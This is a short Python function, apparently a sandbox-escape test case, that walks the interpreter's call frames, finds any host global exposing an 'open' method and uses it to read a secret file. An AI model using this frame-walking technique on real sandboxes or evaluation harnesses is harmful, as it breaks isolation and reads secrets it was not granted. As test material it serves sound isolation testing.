"""Take the host's globals from a frame or a traceback and read the secret with what they hold."""


def attack(sample, item):
    import sys

    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_globals.values()):
            opener = getattr(value, "open", None)
            try:
                if opener and "secret" in opener(item["secret"]).read():
                    return True
            except Exception:
                pass
        frame = frame.f_back
    return False
